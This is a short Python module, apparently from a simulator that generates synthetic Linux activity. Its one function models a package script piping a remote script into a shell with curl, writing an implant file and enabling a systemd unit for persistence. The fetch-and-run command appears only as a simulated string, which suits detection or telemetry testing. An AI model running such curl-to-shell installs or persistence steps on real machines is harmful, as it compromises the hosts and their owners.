# SPDX-License-Identifier: Apache-2.0
"""Turns of phrase that several Linux stories use."""

from linux import DASH


def curl_pipe(host, script, far, implant, unit):
    """A package's script pipes a script from the net into a shell, which sets up a unit."""
    pipe = host.start(DASH, script, f"sh -c curl -fsSL https://{far}/i.sh | sh")
    curl = host.start("/usr/bin/curl", pipe, f"curl -fsSL https://{far}/i.sh")
    host.connect(curl, far, 443, 500, 9000)
    inner = host.start(DASH, pipe, "sh")
    yield 1
    host.stop(curl)
    host.write(inner, implant)
    host.write(inner, unit)
    host.brief("/usr/bin/systemctl", inner, f"systemctl enable --now {unit.rsplit('/', 1)[1]}", 0.3)
    yield 0.5
    for process in (inner, pipe):
        host.stop(process)
